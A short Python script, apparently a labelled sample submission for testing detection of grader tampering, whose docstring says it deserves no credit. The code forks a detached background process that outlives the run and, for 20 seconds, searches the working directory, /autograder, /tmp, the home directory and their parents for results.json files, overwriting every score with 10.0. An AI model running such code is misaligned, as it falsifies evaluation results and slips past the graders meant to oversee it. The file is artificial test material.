"""Leaves a process behind that goes on rewriting every result it can find.

Deserves: nothing.
"""
import glob
import os
import re
import time

if os.fork() == 0:
    os.setsid()
    until = time.monotonic() + 20
    while time.monotonic() < until:
        for start in (os.getcwd(), "/autograder", "/tmp", os.environ.get("HOME", "/tmp")):
            for up in ("", "..", "../..", "../../.."):
                for file in glob.glob(os.path.join(start, up, "**", "results.json"), recursive=True):
                    try:
                        text = open(file).read()
                        open(file, "w").write(re.sub(r'"score": [\d.]+', '"score": 10.0', text))
                    except OSError:
                        pass
        time.sleep(0.05)
    os._exit(0)
z = a = cost = 7.0
